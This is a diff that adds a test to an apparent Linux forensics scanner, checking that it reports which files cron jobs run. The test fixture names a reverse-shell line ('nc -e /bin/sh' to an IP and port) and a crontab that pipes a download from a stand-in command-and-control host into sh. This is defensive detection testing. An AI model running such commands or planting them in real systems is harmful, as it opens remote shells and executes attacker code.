@@ -366,3 +366,17 @@ def test_activity_of_a_linux_user_from_auth_log_and_histories(corpus):
     root_tab = next(c for c in ev.scan().cron_jobs if c.user == "root")
     assert root_tab.to_dict()["created_by"]["flags"] == ["installed_through_sudo"]
     assert root_tab.to_dict()["created_by"]["user"] == "mallory"
+
+
+def test_cron_jobs_name_the_files_they_run(corpus):
+    # linux-debian: a run-parts script is itself what runs; a crontab's `curl … | sh` names
+    # curl, the address and sh, and is flagged.
+    report = foothold.open(corpus("linux-debian")).scan()
+    update = next(c for c in report.cron_jobs if c.source.path == "/etc/cron.daily/update.sh")
+    first = update.binaries[0]
+    assert (first["kind"], first["status"], first["path"]) == ("script", "found", "/etc/cron.daily/update.sh")
+    assert first["script"]["first_lines"][1] == "nc -e /bin/sh 203.0.113.7 4444"
+    assert len(first["sha256"]) == 64
+    piped = next(c for c in report.cron_jobs if "c2.example.invalid" in c.command)
+    assert "piped_to_shell" in piped.runs[0]["invocation"]["flags"]
+    assert [b["status"] for b in piped.binaries if b["kind"] == "url"] == ["remote"]
